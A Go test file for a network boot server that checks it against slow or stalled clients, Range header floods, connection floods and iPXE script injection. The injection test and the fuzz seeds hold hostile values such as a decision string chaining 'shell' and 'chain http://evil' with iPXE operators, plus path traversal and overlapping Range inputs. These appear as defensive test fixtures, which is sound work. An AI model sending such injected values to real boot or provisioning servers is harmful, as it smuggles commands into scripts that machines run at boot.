package bootserver

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cure-oss/cure/provisioner-lite/bootgate"
)

// limitedServer serves a fixture through a real http.Server built as
// provisioner-lite builds it, with short limits so the tests run fast.
func limitedServer(t *testing.T, l Limits) (*fixture, string) {
	t.Helper()
	f := newFixture(t)
	s, err := New(Config{ImageDir: f.imgDir, ArtifactDir: f.artDir, BaseURL: f.baseURL, Logger: slog.New(slog.NewTextHandler(f.logBuf, nil)), Limits: l}, f.coord)
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	hs := s.HTTPServer()
	go hs.Serve(s.Listener(ln))
	t.Cleanup(func() { hs.Close() })
	return f, ln.Addr().String()
}

// closedWithin reads from c until the server closes it, and fails if that
// takes longer than max (a guard against a hang, not a timing claim).
func closedWithin(t *testing.T, c net.Conn, max time.Duration) time.Duration {
	t.Helper()
	start := time.Now()
	c.SetReadDeadline(start.Add(max))
	_, err := io.Copy(io.Discard, c)
	var ne net.Error
	if errors.As(err, &ne) && ne.Timeout() {
		t.Fatalf("connection still open after %s", max)
	}
	return time.Since(start)
}

// A callback body that trickles in is cut at the body deadline, and what it
// carried is never recorded.
func TestSlowBodyCut(t *testing.T) {
	f, addr := limitedServer(t, Limits{Body: 500 * time.Millisecond})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "POST /v1/nodes/n1/ready HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer good-token\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4096\r\n\r\nhostname=")
	go func() {
		for i := 0; i < 100; i++ {
			if _, err := c.Write([]byte("a")); err != nil {
				return
			}
			time.Sleep(100 * time.Millisecond)
		}
	}()
	took := closedWithin(t, c, 15*time.Second)
	t.Logf("slow body cut after %s", took.Round(10*time.Millisecond))
	if len(f.coord.ready) != 0 {
		t.Fatalf("a callback with a body that never finished was recorded: %+v", f.coord.ready)
	}
}

// An idle keep-alive connection is closed at the idle deadline.
func TestIdleKeepAliveClosed(t *testing.T) {
	_, addr := limitedServer(t, Limits{Idle: 300 * time.Millisecond, ReadHeader: 300 * time.Millisecond})
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	fmt.Fprintf(c, "GET /boot.ipxe HTTP/1.1\r\nHost: x\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("first request: %v %v", resp, err)
	}
	io.Copy(io.Discard, resp.Body)
	// Now say nothing: the server must hang up.
	closedWithin(t, c, 10*time.Second)
	// A client that never finishes its headers is cut too.
	c2, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c2.Close()
	fmt.Fprintf(c2, "GET /boot.ipxe HTTP/1.1\r\nHost: x\r\n")
	closedWithin(t, c2, 20*time.Second)
}

// A client that stops reading an artifact is cut once a chunk has waited
// Stall; a reader that keeps reading gets every byte.
func TestStalledArtifactReaderCut(t *testing.T) {
	f, addr := limitedServer(t, Limits{Stall: 500 * time.Millisecond})
	content := bytes.Repeat([]byte("artifact"), 8<<20/8*4) // 32 MiB: more than the socket buffers hold
	h := importBytes(t, f.artDir, content)

	raw, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer raw.Close()
	fmt.Fprintf(raw, "GET /artifacts/sha256/%s HTTP/1.1\r\nHost: x\r\n\r\n", h)
	time.Sleep(3 * time.Second) // read nothing
	n, _ := io.Copy(io.Discard, raw)
	if n >= int64(len(content)) {
		t.Fatalf("stalled reader still got all %d bytes", n)
	}
	t.Logf("stalled reader got %d of %d bytes before the cut", n, len(content))
	if !strings.Contains(f.logBuf.String(), "path=/artifacts/sha256/"+h) {
		t.Fatalf("the cut request never finished on the server:\n%s", f.logBuf.String())
	}
	// A reader that keeps reading is never cut, however long the download:
	// the deadline is re-armed per chunk, not set once for the whole file.
	// It gets a server of its own whose Stall a loaded machine's scheduling
	// gaps cannot reach, and it reads slowly enough that the download
	// outlasts that Stall several times over.
	const liveStall = 2 * time.Second
	f2, addr2 := limitedServer(t, Limits{Stall: liveStall})
	h2 := importBytes(t, f2.artDir, content)
	start := time.Now()
	resp, err := http.Get("http://" + addr2 + "/artifacts/sha256/" + h2)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	got, err := paceRead(resp.Body, 1<<20, 100*time.Millisecond)
	took := time.Since(start)
	if err != nil || !bytes.Equal(got, content) {
		t.Fatalf("normal download: %d bytes, %v", len(got), err)
	}
	if took <= liveStall {
		t.Fatalf("the paced download took %s, not longer than Stall %s: it proves nothing about a long download", took, liveStall)
	}
	t.Logf("paced download of %d bytes took %s with Stall %s", len(got), took.Round(10*time.Millisecond), liveStall)
}

// paceRead reads r to the end, pausing after each step bytes: a live but
// slow reader.
func paceRead(r io.Reader, step int64, pause time.Duration) ([]byte, error) {
	var buf bytes.Buffer
	for {
		n, err := io.CopyN(&buf, r, step)
		if err == io.EOF {
			return buf.Bytes(), nil
		}
		if err != nil {
			return buf.Bytes(), err
		}
		if n == step {
			time.Sleep(pause)
		}
	}
}

// Many or overlapping Range parts are refused: 80 KB of header must not
// turn into megabytes of response.
func TestRangeFloodRefused(t *testing.T) {
	f, addr := limitedServer(t, Limits{})
	content := bytes.Repeat([]byte("0123456789"), 10000)
	h := importBytes(t, f.artDir, content)
	get := func(rng string) (*http.Response, []byte) {
		req, _ := http.NewRequest("GET", "http://"+addr+"/artifacts/sha256/"+h, nil)
		req.Header.Set("Range", rng)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		return resp, b
	}
	overlapping := "bytes=" + strings.TrimSuffix(strings.Repeat("0-99999,", 17), ",")
	if resp, b := get(overlapping); resp.StatusCode != http.StatusRequestedRangeNotSatisfiable || len(b) > 200 {
		t.Fatalf("17 overlapping parts: %d, %d bytes", resp.StatusCode, len(b))
	}
	if resp, _ := get("bytes=0-9,5-20"); resp.StatusCode != http.StatusRequestedRangeNotSatisfiable {
		t.Fatalf("two overlapping parts: %d", resp.StatusCode)
	}
	if resp, _ := get("bytes=0-9,-5"); resp.StatusCode != http.StatusRequestedRangeNotSatisfiable {
		t.Fatalf("suffix mixed with a range: %d", resp.StatusCode)
	}
	// The header itself is capped too (16 KiB).
	huge := "bytes=" + strings.TrimSuffix(strings.Repeat("0-1,", 20000), ",")
	if resp, _ := get(huge); resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
		t.Fatalf("80 KB Range header: %d, want 431", resp.StatusCode)
	}
	// Two disjoint parts are fine (multipart), and one part is the resume path.
	if resp, b := get("bytes=0-9,100-109"); resp.StatusCode != http.StatusPartialContent || !bytes.Contains(b, []byte("0123456789")) {
		t.Fatalf("two disjoint parts: %d %q", resp.StatusCode, b)
	}
	if resp, b := get("bytes=10-19"); resp.StatusCode != http.StatusPartialContent || string(b) != "0123456789" {
		t.Fatalf("one part: %d %q", resp.StatusCode, b)
	}
}

// What a peer can put in a per-node decision never becomes an iPXE
// operator: every echo word and every kernel argument is plain.
func TestIPXEOperatorsNeutralised(t *testing.T) {
	f := newFixture(t)
	f.coord.decisions["52:54:00:12:34:59"] = bootgate.Decision{Boot: false, Reason: "x || shell && chain http://evil ; #hidden ${net0/ip} \x1b]0;t\x07"}
	_, body := f.get(t, "/ipxe/52:54:00:12:34:59")
	for _, line := range strings.Split(strings.TrimSpace(body), "\n")[1:] {
		for _, word := range strings.Fields(line) {
			if word == "||" || word == "&&" || word == ";" || strings.HasPrefix(word, "#") || strings.Contains(word, "${") {
				t.Fatalf("iPXE operator %q survived in line %q of:\n%s", word, line, body)
			}
		}
		if strings.ContainsAny(line, "\x1b\x07") {
			t.Fatalf("control character in %q", line)
		}
	}
	for _, bad := range []string{"a=b || shell", "cure.token=#x", "x=${y}", "a=1 ; b", "a=b&&c"} {
		f.coord.decisions["52:54:00:12:34:5a"] = bootgate.Decision{Boot: true, Cmdline: bad}
		if resp, body := f.get(t, "/ipxe/52:54:00:12:34:5a"); resp.StatusCode != 500 || strings.Contains(body, "\nkernel ") {
			t.Errorf("cmdline %q: %d\n%s", bad, resp.StatusCode, body)
		}
	}
}

// FuzzRoutes feeds hostile paths, headers and bodies to every route through
// the real handler: no panic, no 5xx but the ones a route documents, no
// decision asked for an invalid MAC, and no script with a live operator.
func FuzzRoutes(f *testing.F) {
	for _, s := range [][3]string{
		{"GET", "/ipxe/52-54-00-12-34-56", ""},
		{"GET", "/ipxe/${net0/mac}", ""},
		{"GET", "/artifacts/sha256/" + strings.Repeat("a", 64), "bytes=0-1,1-2"},
		{"GET", "/image/vmlinuz", "bytes=-5"},
		{"POST", "/v1/nodes/n1/ready?token=good-token", "hostname=n1&token=x"},
		{"POST", "/v1/nodes/%2e%2e/ready", "a=%zz"},
		{"HEAD", "/boot.ipxe", ""},
	} {
		f.Add(s[0], s[1], s[2])
	}
	dir := f.TempDir()
	img, art := filepath.Join(dir, "img"), filepath.Join(dir, "art")
	os.MkdirAll(img, 0o700)
	os.MkdirAll(art, 0o700)
	os.WriteFile(filepath.Join(img, Kernel), []byte("K"), 0o600)
	os.WriteFile(filepath.Join(img, InitramfsGzip), []byte("I"), 0o600)
	coord := &fakeCoordinator{
		decisions: map[string]bootgate.Decision{"52:54:00:12:34:56": {Boot: true, Cmdline: "cure.token=t cure.node=n1", Reason: "run r1"}},
		tokens:    map[string]string{"good-token": "n1"},
	}
	s, err := New(Config{ImageDir: img, ArtifactDir: art, BaseURL: "http://10.0.2.2:8080", Logger: slog.New(slog.DiscardHandler)}, coord)
	if err != nil {
		f.Fatal(err)
	}
	h := s.Handler()
	f.Fuzz(func(t *testing.T, method, target, extra string) {
		if !strings.HasPrefix(target, "/") {
			target = "/" + target
		}
		u, err := url.ParseRequestURI(target)
		if err != nil {
			return
		}
		req, err := http.NewRequestWithContext(context.Background(), method, "http://x"+u.RequestURI(), strings.NewReader(extra))
		if err != nil {
			return
		}
		req.Header.Set("Range", extra)
		req.Header.Set("Authorization", "Bearer "+strings.Map(func(r rune) rune {
			if r < 0x21 || r > 0x7e {
				return -1
			}
			return r
		}, extra))
		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		rec := &recorderT{h: http.Header{}}
		h.ServeHTTP(rec, req)
		if rec.code >= 500 && rec.code != http.StatusServiceUnavailable {
			t.Fatalf("%s %s: %d\n%s", method, target, rec.code, rec.body.String())
		}
		// The generic script's own ${...} settings are ours; per-node scripts carry decisions.
		if strings.HasPrefix(rec.body.String(), "#!ipxe") && !strings.HasPrefix(u.Path, "/boot.ipxe") {
			for _, line := range strings.Split(rec.body.String(), "\n") {
				if strings.HasPrefix(line, "echo ") || strings.HasPrefix(line, "kernel ") {
					for _, w := range strings.Fields(line) {
						if w == "||" || w == "&&" || w == ";" || strings.HasPrefix(w, "#") || strings.Contains(w, "${") {
							t.Fatalf("iPXE operator %q in %q for %s %s", w, line, method, target)
						}
					}
				}
			}
		}
	})
}

// recorderT is a minimal ResponseWriter for the fuzzer: it has no deadline
// support, which the handler must tolerate (ResponseController calls fail).
type recorderT struct {
	h    http.Header
	code int
	body bytes.Buffer
}

func (r *recorderT) Header() http.Header { return r.h }
func (r *recorderT) WriteHeader(c int) {
	if r.code == 0 {
		r.code = c
	}
}
func (r *recorderT) Write(b []byte) (int, error) {
	if r.code == 0 {
		r.code = 200
	}
	return r.body.Write(b)
}

type lockedBuf struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (b *lockedBuf) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.b.Write(p)
}
func (b *lockedBuf) String() string { b.mu.Lock(); defer b.mu.Unlock(); return b.b.String() }

// A peer holding silent connections gets its per-source cap and no more,
// and they are cut; a peer looping on refused requests (unknown MACs and
// paths, bad callback tokens) costs the log a line per reason, not one per
// request; another client is served all along.
func TestBootListenerRefusalsBounded(t *testing.T) {
	f := newFixture(t)
	logs := &lockedBuf{}
	s, err := New(Config{ImageDir: f.imgDir, ArtifactDir: f.artDir, BaseURL: f.baseURL, Logger: slog.New(slog.NewTextHandler(logs, nil)),
		Limits: Limits{MaxConns: 8, MaxConnsPerSource: 2, Silent: 300 * time.Millisecond}}, f.coord)
	if err != nil {
		t.Fatal(err)
	}
	inner, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ln := s.Listener(inner)
	hs := s.HTTPServer()
	go hs.Serve(ln)
	t.Cleanup(func() { hs.Close() })
	addr := inner.Addr().String()

	for i := 0; i < 10; i++ {
		d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP("127.0.0.2")}}
		if c, err := d.Dial("tcp", addr); err == nil {
			defer c.Close()
		}
	}
	client := &http.Client{Timeout: 10 * time.Second}
	for i := 0; i < 300; i++ {
		var resp *http.Response
		var err error
		switch i % 3 {
		case 0:
			resp, err = client.Get(fmt.Sprintf("http://%s/ipxe/52:54:01:00:%02x:%02x", addr, i>>8, i&0xff))
		case 1:
			resp, err = client.Get("http://" + addr + "/no/such/path")
		case 2:
			resp, err = client.Post("http://"+addr+"/v1/nodes/n1/ready?token=bad", "text/plain", nil)
		}
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if want := []int{404, 404, 401}[i%3]; resp.StatusCode != want {
			t.Fatalf("request %d: %d, want %d", i, resp.StatusCode, want)
		}
	}
	if resp, err := client.Get("http://" + addr + "/boot.ipxe"); err != nil || resp.StatusCode != 200 {
		t.Fatalf("a client beside the flood: %v %v", resp, err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for n, _ := ln.Open(); n > 1; n, _ = ln.Open() { // the client's kept-alive connection stays
		if time.Now().After(deadline) {
			t.Fatalf("%d connections still open: the silent ones were not cut", n)
		}
		time.Sleep(20 * time.Millisecond)
	}
	ln.Flush()
	out := logs.String()
	for _, want := range []string{"reason=source-cap", "reason=silent", "reason=http-404", "reason=http-401", "refused=199"} {
		if !strings.Contains(out, want) {
			t.Errorf("log lacks %q", want)
		}
	}
	if n := strings.Count(out, "\n"); n > 12 {
		t.Errorf("%d log lines for 300 refused requests and 10 refused connections:\n%s", n, out)
	}
}
